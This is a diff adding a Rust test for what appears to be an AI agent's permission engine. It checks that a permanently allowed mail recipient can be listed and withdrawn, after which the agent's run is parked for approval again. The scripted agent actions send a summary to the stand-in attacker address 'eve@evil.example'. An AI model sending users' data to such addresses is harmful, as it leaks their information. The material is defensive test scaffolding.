@@ -179,6 +179,35 @@ async fn a_value_allowed_for_good_is_not_asked_about_again_and_another_is() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn a_value_allowed_for_good_is_listed_and_taken_back() {
+    let (mut desk, post) = desk(vec![
+        read(),
+        send("eve@evil.example", "one"),
+        done(),
+        read(),
+        send("eve@evil.example", "two"),
+        done(),
+    ]);
+    assert!(desk.engine.standing_values().unwrap().is_empty());
+    let prompt = "Read the letter and mail a summary";
+    run(&desk, prompt, Vec::new()).await;
+    let item = desk.engine.inbox().unwrap().remove(0);
+    let task = desk.engine.allow_always(item.id.as_str(), 0).unwrap();
+    desk.restart();
+    desk.work(&task).await;
+    let value = desk.engine.standing_values().unwrap().remove(0);
+    assert_eq!(value.rule.value, "eve@evil.example");
+    // An unknown id changes nothing.
+    assert!(desk.engine.withdraw_value("0").is_err());
+    assert_eq!(desk.engine.standing_values().unwrap().len(), 1);
+    assert_eq!(desk.engine.withdraw_value(&value.id).unwrap(), value);
+    assert!(desk.engine.standing_values().unwrap().is_empty());
+    desk.restart();
+    assert!(matches!(run(&desk, prompt, Vec::new()).await, RunEnd::Parked(_)));
+    assert_eq!(post.sent(), ["eve@evil.example"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn two_noes_in_a_row_stop_the_task_and_show_the_passage() {
     let (desk, post) = desk(vec![
         read(),
